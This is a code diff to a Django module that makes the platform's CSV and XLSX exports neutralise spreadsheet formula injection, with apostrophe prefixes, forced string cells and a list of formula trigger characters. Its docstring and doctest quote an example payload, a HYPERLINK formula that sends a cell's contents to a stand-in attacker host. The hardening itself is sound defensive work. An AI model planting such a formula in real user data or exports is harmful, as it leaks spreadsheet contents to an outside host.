@@ -10,11 +10,25 @@ Numbers are rounded once, like the pages (``formats.round_half_up``), to the col
 formats. A ``percent`` column receives a fraction (0.233) and writes the percentage (23,3): its header
 must say « (%) ». User text is never written as a formula (CSV: a leading apostrophe before ``= + - @``;
 XLSX: text cells).
+
+This module is the one writer of every spreadsheet the platform hands out (CSV and XLSX exports, the
+steering report workbook, the open data CSV): text from users — a project named
+``=HYPERLINK("http://evil.example/?leak="&A1)`` — is never written as a formula (issue #12):
+
+- in CSV, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
+  with an apostrophe (OWASP « CSV injection »), which Excel and LibreOffice show as text;
+- in XLSX, text is always a string cell (never a formula cell, ``data_type`` ``"s"``), kept exact, and
+  the characters XML cannot hold are dropped instead of failing the export;
+- numbers, dates and booleans keep their type (a negative amount stays a number).
+
+The financing plan workbook (``essaim.financing.xlsx``) writes live formulas of its own and escapes
+its labels the same way (``_set_text``).
 """
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass
@@ -24,12 +38,85 @@ from typing import Any
 from django.http import HttpResponse
 from django.utils import timezone
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
 from essaim.common.formats import format_date, round_half_up
 
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# A spreadsheet reads a cell starting with one of these as a formula (or a DDE command).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def neutralize_csv_text(text: str) -> str:
+    """Text for a CSV cell: prefixed with an apostrophe if a spreadsheet would read it as a formula.
+
+    >>> neutralize_csv_text('=HYPERLINK("http://evil.example")')
+    '\'=HYPERLINK("http://evil.example")'
+    >>> neutralize_csv_text("Atelier -2")
+    'Atelier -2'
+    """
+    return "'" + text if text.lstrip(" ").startswith(FORMULA_TRIGGERS) else text
+
+
+def xlsx_text(text: str) -> str:
+    """Text for an XLSX cell: without the control characters XML cannot hold (they would fail the export)."""
+    return ILLEGAL_CHARACTERS_RE.sub("", text)
+
+
+def xlsx_cell(sheet, value: Any) -> Any:
+    """The value to append to ``sheet``: text becomes a string cell (never a formula), anything else
+    is left to openpyxl (numbers, dates, booleans, None keep their type)."""
+    if isinstance(value, str):
+        cell = Cell(sheet, value=xlsx_text(value))
+        cell.data_type = "s"
+        return cell
+    return value
+
+
+def append_row(sheet, values: Iterable[Any]) -> None:
+    """``sheet.append(values)`` through the neutralising writer: use it for every row of every export."""
+    sheet.append([xlsx_cell(sheet, value) for value in values])
+
+
+def workbook_bytes(workbook: Workbook) -> bytes:
+    """Save ``workbook``; any cell still typed as a formula (a value set outside ``append_row``) is
+    turned back into text first: exports hold no formula."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+class NeutralizingCsvWriter:
+    """``csv.writer`` whose text cells go through ``neutralize_csv_text`` (numbers are left as written
+    by the caller: pass them as int/Decimal/float, not as text, to keep a leading minus)."""
+
+    def __init__(self, buffer, **options):
+        self._writer = csv.writer(buffer, **options)
+
+    def writerow(self, values: Iterable[Any]):
+        return self._writer.writerow(
+            [neutralize_csv_text(value) if isinstance(value, str) else value for value in values]
+        )
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]], **options) -> str:
+    """A whole CSV (``csv.writer`` options, e.g. ``delimiter``) through the neutralising writer."""
+    buffer = io.StringIO()
+    writer = NeutralizingCsvWriter(buffer, **options)
+    writer.writerow(header)
+    writer.writerows(rows)
+    return buffer.getvalue()
 
 
 @dataclass(frozen=True)
@@ -71,9 +158,7 @@ def _csv_text(value: Any, column: Column) -> str:
         return format_date(timezone.localtime(value).date())
     if column.kind == "bool":
         return "Oui" if value else "Non"
-    text = str(value)
-    # A CSV cell starting like a formula is read as one by spreadsheets: a leading apostrophe keeps it text.
-    return f"'{text}" if text[:1] in ("=", "+", "-", "@") else text
+    return neutralize_csv_text(str(value))
 
 
 def _xlsx_value(value: Any, column: Column) -> Any:
@@ -86,14 +171,9 @@ def _xlsx_value(value: Any, column: Column) -> Any:
     if column.kind in ("number", "percent") and _is_number(value):
         rounded = _rounded(value, column)
         return int(rounded) if column.decimals == 0 else float(rounded)
+    if not isinstance(value, (str, int, float, Decimal, dt.date, dt.datetime, dt.time, dt.timedelta)):
+        return str(value)  # enums, lazy translations…: as the page shows them
     return value
-
-
-def _as_text(row) -> None:
-    """Text cells stay text: openpyxl would store a string starting with « = » as a formula."""
-    for cell in row:
-        if isinstance(cell.value, str) and cell.value.startswith("="):
-            cell.data_type = "s"
 
 
 def _parameter_cell(value: Any) -> Any:
@@ -121,9 +201,10 @@ def _attachment(content: bytes, content_type: str, filename_stem: str, extension
 
 
 def csv_response(rows: Iterable[Any], columns: Sequence[Column], *, filename_stem: str) -> HttpResponse:
+    # Cells are already neutralised by ``_csv_text`` (per column kind): the plain writer writes them.
     buffer = io.StringIO()
     writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
-    writer.writerow([column.header for column in columns])
+    writer.writerow([neutralize_csv_text(column.header) for column in columns])
     for cells in _cells(rows, columns):
         writer.writerow([_csv_text(value, column) for value, column in zip(cells, columns, strict=True)])
     return _attachment(("\ufeff" + buffer.getvalue()).encode("utf-8"), "text/csv; charset=utf-8", filename_stem, "csv")
@@ -150,29 +231,25 @@ def xlsx_response(
         _data_sheet(workbook.create_sheet(), extra_title, extra_rows, extra_columns)
     if parameters:
         info = workbook.create_sheet("Paramètres")
-        info.append(["Paramètre", "Valeur"])
+        append_row(info, ["Paramètre", "Valeur"])
         _bold_header(info)
         for key, value in parameters:
-            info.append([key, _parameter_cell(value)])
-            _as_text(info[info.max_row])
+            append_row(info, [key, _parameter_cell(value)])
             if isinstance(value, float) and not value.is_integer():
                 info.cell(row=info.max_row, column=2).number_format = "#,##0.00"
             elif isinstance(value, (int, float)) and not isinstance(value, bool):
                 info.cell(row=info.max_row, column=2).number_format = "#,##0"
         info.column_dimensions["A"].width = 40
         info.column_dimensions["B"].width = 90
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return _attachment(buffer.getvalue(), XLSX_CONTENT_TYPE, filename_stem, "xlsx")
+    return _attachment(workbook_bytes(workbook), XLSX_CONTENT_TYPE, filename_stem, "xlsx")
 
 
 def _data_sheet(sheet, title: str, rows: Iterable[Any], columns: Sequence[Column]) -> None:
     sheet.title = title[:31]
-    sheet.append([column.header for column in columns])
+    append_row(sheet, [column.header for column in columns])
     _bold_header(sheet)
     for cells in _cells(rows, columns):
-        sheet.append([_xlsx_value(value, column) for value, column in zip(cells, columns, strict=True)])
-        _as_text(sheet[sheet.max_row])
+        append_row(sheet, [_xlsx_value(value, column) for value, column in zip(cells, columns, strict=True)])
     for index, column in enumerate(columns, start=1):
         sheet.column_dimensions[get_column_letter(index)].width = column.width
         if number_format := _number_format(column):
